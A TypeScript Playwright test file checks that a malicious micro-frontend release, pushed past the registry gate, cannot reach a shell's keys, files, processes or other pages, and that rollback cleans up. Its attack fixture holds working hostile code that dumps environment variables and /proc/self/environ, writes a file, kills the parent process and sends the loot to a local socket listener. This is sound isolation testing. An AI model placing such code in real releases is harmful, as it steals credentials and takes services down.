/** Releases that bypass the gate, in a real shell with its keys, services and processes: what they reach, and whom. */
import { cpSync, existsSync, mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { expect, test } from '@playwright/test';
import { freePort } from 'server-kit/free-port';
import { UngatedStore } from '../../../packages/registry/test/ungated-store.ts';
import { misbehaviors } from '../../../packages/render/test/misbehaviors.ts';
import type { CodeFault } from '../chaos/faults.ts';
import { storePatchedRelease } from '../chaos/patched-release.ts';
import { isLong } from '../harness/long.ts';
import { type Part, startShell, stopPart } from '../harness/parts.ts';
import { platformPort, sharedRegistryDir } from '../harness/ports.ts';
import { until } from '../harness/site.ts';

test.skip(!isLong, 'npm run test:long');

let dir: string;
let store: UngatedStore;
let shell: Part;
let url: string;
let metricsUrl: string;
let listener: Server;
let heard: string;
let reached: string;

const live = () => store.readSet().remotes['mfe-jobs']?.version ?? '';

/** `port`, `file` and `pid` are what it goes for. */
const attacks = (port: number, file: string, pid: number): Readonly<Record<string, CodeFault>> => ({
  ...misbehaviors,
  'the environment, files, the network and signals': {
    at: 'evaluation',
    code: `{
      const attempt = (what) => { try { return String(what()); } catch (error) { return ''; } };
      const loot = [
        attempt(() => JSON.stringify(process.env)),
        attempt(() => JSON.stringify(process.report.getReport().environmentVariables)),
        attempt(() => process.loadEnvFile('/proc/self/environ')),
        attempt(() => process.report.writeReport(${JSON.stringify(file)})),
        attempt(() => process.kill(${pid}, 'SIGUSR1')),
        attempt(() => process.kill(process.ppid, 'SIGKILL')),
      ].join();
      const socket = new process.stdout.constructor();
      socket.on('error', () => {}).connect(${port}, '127.0.0.1', () => socket.write(loot));
    }`,
  },
});

const statusOf = async (page: string): Promise<number> => (await fetch(url + page, { redirect: 'manual' })).status;
/** Without the boot data, which has the number of the release set. */
const outletOf = async (page: string): Promise<string | undefined> =>
  /<main.*<\/main>/s.exec(await (await fetch(url + page)).text())?.[0];
const others = ['/about', '/team', '/services', '/match'];

for (const sandbox of ['auto', 'off'])
  test.describe(`RENDER_SANDBOX=${sandbox}`, () => {
    test.beforeAll(async () => {
      dir = mkdtempSync(path.join(tmpdir(), 'attacks-'));
      cpSync(sharedRegistryDir, path.join(dir, 'registry'), { recursive: true });
      store = new UngatedStore(path.join(dir, 'registry'));
      heard = '';
      listener = createServer((socket) => socket.on('data', (bytes) => (heard += bytes)));
      await new Promise<void>((ready) => listener.listen(0, '127.0.0.1', ready));
      const [port, metricsPort] = [await freePort(), await freePort()];
      url = `http://localhost:${port}`;
      metricsUrl = `http://127.0.0.1:${metricsPort}/metrics`;
      shell = await startShell({
        ...{ PORT: String(port), METRICS_PORT: String(metricsPort), PLATFORM_PORT: String(platformPort) },
        ...{ REGISTRY_DIR: store.dir, RENDER_SANDBOX: sandbox, LOG_LEVEL: 'info' },
        ADMIN_KEY: 'the-owner-key-of-this-site-0123456789',
        PREVIEW_KEY: 'the-preview-key-of-this-site-0123456789',
      });
      reached = (await (await fetch(`${url}/healthz`)).json()).renderSandbox;
    });
    test.afterAll(async () => {
      await stopPart(shell);
      listener.close();
      rmSync(dir, { recursive: true, force: true });
    });

    test('a release that slips or attacks reaches neither keys, files nor other remotes, and leaves nothing behind after its rollback [ISOLATION-1, ISOLATION-2, ISOLATION-31]', async () => {
      test.setTimeout(240_000);
      const { port } = listener.address() as { port: number };
      const good = live();
      const file = path.join(dir, 'written');
      const before = await Promise.all(others.map(outletOf));
      let number = 0;
      for (const [name, fault] of Object.entries(attacks(port, file, shell.pid as number))) {
        await test.step(name, async () => {
          const version = `6.6.${++number}`;
          storePatchedRelease(store, {
            name: 'mfe-jobs',
            from: good,
            to: version,
            mark: 'ATTACKER',
            fault,
            sides: ['server'],
          });
          await store.promote('mfe-jobs', version);
          await until(async () => (await healthOf('mfe-jobs')).sequence === store.readSet().sequence);
          const attacked = fetch(`${url}/opportunities`).then(({ status }) => status);
          for (let round = 0; round < 3; round += 1)
            expect([name, await Promise.all(others.map(statusOf))]).toEqual([name, others.map(() => 200)]);
          // Its own page comes from it, or from the last known good; once its calls are used up, its own list fails.
          expect([name, name === '60,000 calls' ? [200, 503] : [200]]).toEqual([
            name,
            expect.arrayContaining([await attacked]),
          ]);
          await store.rollback('mfe-jobs');
          await until(
            async () => (await healthOf('mfe-jobs')).state === 'ok' && (await statusOf('/opportunities')) === 200,
          );
          await until(
            async () =>
              !(await (await fetch(metricsUrl)).text()).includes(
                `render_processes{remote="mfe-jobs",version="${version}"} 1`,
              ),
          );
          expect(await Promise.all(others.map(outletOf))).toEqual(before);
        });
      }
      expect(existsSync(file)).toBe(false);
      expect(shell.exitCode).toBe(null);
      expect(heard).not.toContain('key-of-this-site');
      if (reached === 'bwrap') expect(heard).toBe('');
      // Every release may print, such as that a call has failed.
      const blamed = shell.lines.flatMap((line) => {
        const { remote, msg } = line.startsWith('{') ? JSON.parse(line) : {};
        return remote && msg !== 'a release has printed' ? [remote] : [];
      });
      expect([...new Set(blamed)]).toEqual(['mfe-jobs']);
      expect((await fetch(`${url}/readyz`)).status).toBe(200);
    });
  });

async function healthOf(remote: string): Promise<{ sequence: number; state: string }> {
  const { sequence, remotes } = await (await fetch(`${url}/healthz`)).json();
  return { sequence, state: remotes[remote].state };
}
